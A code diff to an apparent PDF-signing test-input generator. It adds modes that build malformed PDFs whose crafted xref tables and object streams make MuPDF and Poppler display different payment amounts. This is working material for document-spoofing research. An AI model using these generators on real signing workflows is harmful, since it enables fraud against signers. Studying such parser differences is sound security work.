@@ -31,6 +31,14 @@ attacker's reading, 2026-12-03: "pay 100 VND" shown before signing, another text
                                                  and 3 then swapped in the page tree, not in the
                                                  hint tables (Poppler shows the hints' order;
                                                  IN unused)
+    python3 signing_inputs.py objstm-past IN OUT an xref stream placing object 30 in object
+                                                 stream 31, past its /Size (MuPDF rebuilds the
+                                                 table, and shows a plain object the table frees)
+    python3 signing_inputs.py dangling IN OUT    a hybrid file whose page names 30 0 R, its /Size:
+                                                 Poppler rebuilds the table and takes a plain
+                                                 header over an object-stream member (IN unused)
+    python3 signing_inputs.py dangling-both IN OUT  the same, its /XRefStm also placing 29 in
+                                                 object stream 30 (MuPDF rebuilds too)
     python3 signing_inputs.py linearized IN OUT  IN with a second page, linearized by qpdf
                                                  (pikepdf): an honest file
     python3 signing_inputs.py lin-o IN OUT       the same with /O naming the second page (Poppler
@@ -202,6 +210,75 @@ elif mode == 'lin-xref':
     made = build(len(made))
     assert b'/L %010d' % len(made) in made
     open(out, 'wb').write(made)
+elif mode in ('objstm-past', 'dangling', 'dangling-both'):
+    import struct
+    head = b'%PDF-1.7\n%\xe2\xe3\xcf\xd3\n'
+    font = b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'
+
+    def stream(content, extra=b''):
+        return b'<< /Length %d %s >>\nstream\n%s\nendstream' % (len(content), extra, content)
+
+    def text(t):
+        return b'BT /F1 24 Tf 72 700 Td (%s) Tj ET' % t
+
+    b, offs = bytearray(head), {}
+
+    def put(n, body):
+        offs[n] = len(b)
+        b.extend(b'%d 0 obj\n%s\nendobj\n' % (n, body))
+
+    if mode == 'objstm-past':
+        size = 31
+        put(1, b'<< /Type /Catalog /Pages 2 0 R >>')
+        put(2, b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>')
+        put(3, b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] '
+               b'/Resources << /Font << /F1 5 0 R >> >> /Contents [6 0 R 8 0 R] >>')
+        put(5, font)
+        put(6, stream(text(b'pay 100 VND') + b'\n('))      # freed; its string swallows 8
+        put(8, stream(text(b'pay 999999 VND') + b'\n%)'))
+        x = len(b)
+        rows = b''
+        for n in range(size):
+            if n == 0:
+                rows += struct.pack('>BIH', 0, 0, 65535)
+            elif n in offs and n != 6:
+                rows += struct.pack('>BIH', 1, offs[n], 0)
+            elif n == 30:
+                rows += struct.pack('>BIH', 2, size, 0)
+            else:
+                rows += struct.pack('>BIH', 0, 0, 0)
+        b += b'9 0 obj\n%s\nendobj\n' % stream(
+            rows, b'/Type /XRef /W [1 4 2] /Size %d /Root 1 0 R' % size)
+        b += b'startxref\n%d\n%%%%EOF\n' % x
+    else:
+        size = 30
+        form = b'/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >>'
+        put(1, b'<< /Type /Catalog /Pages 2 0 R >>')
+        put(2, b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>')
+        put(3, b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /LastModified %d 0 R '
+               b'/Resources 6 0 R /Contents 8 0 R >>' % size)
+        put(5, font)
+        put(6, b'<< /XObject << /X 10 0 R >> >>')             # the plain version
+        put(8, stream(b'/X Do'))
+        put(10, stream(text(b'pay 100 VND'), form))
+        put(11, stream(text(b'pay 999999 VND'), form))
+        member, index = b'<< /XObject << /X 11 0 R >> >>', b'6 0 '.ljust(8)
+        put(7, stream(index + member, b'/N 1 /First %d' % len(index)))
+        rows = struct.pack('>BIH', 2, 7, 0)
+        ranges = b'6 1'
+        if mode == 'dangling-both':
+            rows += struct.pack('>BIH', 2, size, 0)
+            ranges += b' 29 1'
+        xs = len(b)
+        put(9, stream(rows, b'/Type /XRef /W [1 4 2] /Size %d /Index [%s]' % (size, ranges)))
+        x = len(b)
+        t = b'xref\n0 1\n0000000000 65535 f\r\n'
+        for n in sorted(offs):
+            if n != 6:
+                t += b'%d 1\n%010d 00000 n\r\n' % (n, offs[n])
+        b += t + b'trailer\n<< /Size %d /Root 1 0 R /XRefStm %d >>\nstartxref\n%d\n%%%%EOF\n' % (
+            size, xs, x)
+    open(out, 'wb').write(bytes(b))
 elif mode == 'streampage':
     root_num = int(re.findall(rb'/Root\s+(\d+)\s+0\s+R', src)[-1])
     pages = int(re.search(rb'/Pages (\d+) 0 R', obj(root_num)).group(1))
